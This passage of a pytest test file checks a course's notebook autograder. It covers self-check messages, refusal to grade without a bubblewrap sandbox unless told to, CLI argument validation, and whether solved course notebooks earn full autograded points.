    assert _parts(r)["ex1_product"] == ("passed", 1.0) and _parts(r)["ex2_root"][0] == "failed"
    out = capsys.readouterr().out
    assert "bob_07_demo.ipynb: error at cell 8 (Exercise 2): ValueError: math domain error" in out
    assert "  Exercise 1, ex1_product: passed [1 / 1 points]" in out
    with pytest.raises(FileNotFoundError, match="pass the path of your saved notebook"):
        grade.self_check(graded["subs"] / "nobody.ipynb")


def test_without_a_sandbox_grading_refuses_unless_told(monkeypatch, tmp_path, graded, course):
    from course_utils.grading import cli

    monkeypatch.setattr(sandbox, "bwrap_problem", lambda: "bubblewrap (`bwrap`) is not installed.")
    with pytest.raises(RuntimeError, match=r"Cannot grade in a sandbox: bubblewrap .* or pass --no-sandbox"):
        classrun.grade_folder(graded["subs"], tmp_path / "out", _settings(course) if SANDBOX_PROBLEM else
                           grade.Settings(reference_dir=course[2].parent))
    assert cli.main([str(graded["subs"]), "--out", str(tmp_path / "out")]) == 2
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "alice_07_demo.ipynb").write_bytes((graded["subs"] / "alice_07_demo.ipynb").read_bytes())
    settings = _settings(course)
    settings.sandboxed = False
    [r] = classrun.grade_folder(subs, tmp_path / "out", settings, jobs=1)
    assert r.sandboxed is False and r.earned == 2.0
    rows = list(csv.DictReader((tmp_path / "out" / "report.csv").open()))
    assert {row["sandboxed"] for row in rows} == {"NO"} and "UNSANDBOXED" in rows[0]["detail"]


def test_command_line_refuses_bad_arguments(tmp_path, capsys):
    from course_utils.grading import cli

    for argv, message in [([str(tmp_path / "none")], "is not a folder of submissions"),
                          ([str(tmp_path), "--jobs", "0"], "--jobs 0: the number of sandboxes at once must be 1"),
                          ([str(tmp_path), "--hidden-tests", str(tmp_path / "x")], "is not a folder: pass the folder")]:
        with pytest.raises(SystemExit):
            cli.main(argv)
        assert message in capsys.readouterr().err


def test_importing_the_course_package_loads_none_of_the_grader():
    code = "import sys, course_utils; print(sorted(m for m in sys.modules if m.startswith('course_utils.grading')))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True).stdout
    assert out.strip() == "[]"


def _solved(stem):
    """The published student version of ``stem`` with every solution and answer of the course put back."""
    published = nbformat.read(ROOT / "notebooks" / "student" / f"{stem}.ipynb", as_version=4)
    solution = notebooks.read(ROOT / "notebooks" / f"{stem}.ipynb")
    assert len(published.cells) == len(solution["cells"])
    for cell, solved in zip(published.cells, solution["cells"]):
        if "raise NotImplementedError()" in cell.source or cell.source == student.ANSWER_PROMPT:
            cell.source = notebooks.source(solved).replace(student.BEGIN + "\n", "").replace(student.END + "\n", "")
    return published


@pytest.mark.slow
@needs_sandbox
@pytest.mark.parametrize("stem", ["02_first_mlp", "05_miniproject_cnn"])
def test_the_course_solutions_earn_every_autograded_point(stem, tmp_path):
    """The real notebooks, solved as the course solves them, graded in reduced mode (about 30 s and 70 s):
    every check of the course passes on them, and an unanswered copy earns nothing."""
    subs = tmp_path / "subs"
    subs.mkdir()
    nbformat.write(_solved(stem), subs / f"alice_{stem}.ipynb")
    (subs / f"bob_{stem}.ipynb").write_bytes((ROOT / "notebooks" / "student" / f"{stem}.ipynb").read_bytes())
    settings = grade.Settings(cell_timeout=300, total_timeout=900, reduced=True, data="auto",
                              limits=Limits(memory_mb=4096))
    alice, bob = classrun.grade_folder(subs, tmp_path / "out", settings, jobs=2)
    assert (alice.status, alice.first_error, alice.unanswered, alice.changed_given) == ("ran", "", [], [])
    on_stand_in = "STAND-IN DATA" in (tmp_path / "out" / "executed").joinpath(
        f"{grade.safe_name(alice.name)}.ipynb").read_text()
    failed = {p.grade_id: p.message for p in alice.parts if p.kind == "auto" and p.status != "passed"}
    if on_stand_in:   # on the stand-in, the tuned CNN of 05 does not beat the naive one in 2 epochs
        failed.pop("ex6_tuned", None)
    assert failed == {}
    assert alice.earned == sum(p.points for p in alice.parts if p.kind == "auto") - (4 if on_stand_in and
                                                                                      stem.startswith("05") else 0)
    assert bob.earned == 0 and all(p.status in ("unanswered", "awaiting grading by hand") for p in bob.parts)


if __name__ == "__main__":
    sys.exit(pytest.main([__file__, "-q"]))
